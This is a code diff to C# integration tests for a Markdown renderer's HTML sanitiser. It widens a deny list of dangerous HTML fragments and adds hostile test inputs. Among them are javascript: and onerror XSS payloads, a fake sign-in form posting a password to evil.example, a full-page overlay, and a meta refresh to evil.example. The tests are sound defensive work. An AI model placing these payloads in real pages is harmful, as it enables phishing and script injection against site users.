@@ -3,7 +3,8 @@ namespace Summit.Graph.IntegrationTests.Editing;
 /// <summary>Hostile Markdown is stored as written, but nothing dangerous reaches the HTML.</summary>
 public sealed class SanitisingTests(EditingServer editing) : IClassFixture<EditingServer>
 {
-    private static readonly string[] Dangerous = ["<script", "<iframe", "onerror", "onload", "javascript:", "data:", "<!--", "<style", "vbscript:", "<object", "srcdoc", "<math"];
+    private static readonly string[] Dangerous = ["<script", "<iframe", "onerror", "onload", "javascript:", "data:", "<!--", "<style", "vbscript:", "<object", "srcdoc", "<math",
+        "<form", "<input", "<button", "<textarea", "style=", "position", "z-index", "class=", "<meta", "<base", "target="];
 
     public static TheoryData<string, string> HostileMarkdown => new()
     {
@@ -30,6 +31,11 @@ public sealed class SanitisingTests(EditingServer editing) : IClassFixture<Editi
         { "form action", "<form action=\"javascript:alert(1)\"><button>go</button></form>" },
         { "unclosed comment", "Text <!-- <img src=x onerror=alert(1)>" },
         { "math href", "<math><a xlink:href=\"javascript:alert(1)\">m</a></math>" },
+        { "password form", "<form action=\"https://evil.example/\"><input type=\"password\" name=\"pw\"><button>Sign in</button></form>" },
+        { "fixed overlay", "<div style=\"position: fixed; top: 0; left: 0; width: 100%; height: 100%; z-index: 99999\">Moved</div>" },
+        { "host page classes", "<p class=\"modal show\">covered</p>" },
+        { "meta refresh", "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">" },
+        { "framing link", "<a href=\"https://kubevirt.io\" target=\"_top\">l</a>" },
     };
 
     [Theory]
@@ -52,6 +58,6 @@ public sealed class SanitisingTests(EditingServer editing) : IClassFixture<Editi
     {
         var preview = await editing.Server.QueryAsync("""{ renderMarkdown(markdown: "**Bold** [site](https://kubevirt.io) <br> `code`") }""");
 
-        Assert.Equal("""<p><strong>Bold</strong> <a href="https://kubevirt.io" rel="nofollow noopener">site</a> <br> <code>code</code></p>""", preview.Text("renderMarkdown"));
+        Assert.Equal("""<p><strong>Bold</strong> <a href="https://kubevirt.io" rel="noopener noreferrer nofollow">site</a> <br> <code>code</code></p>""", preview.Text("renderMarkdown"));
     }
 }
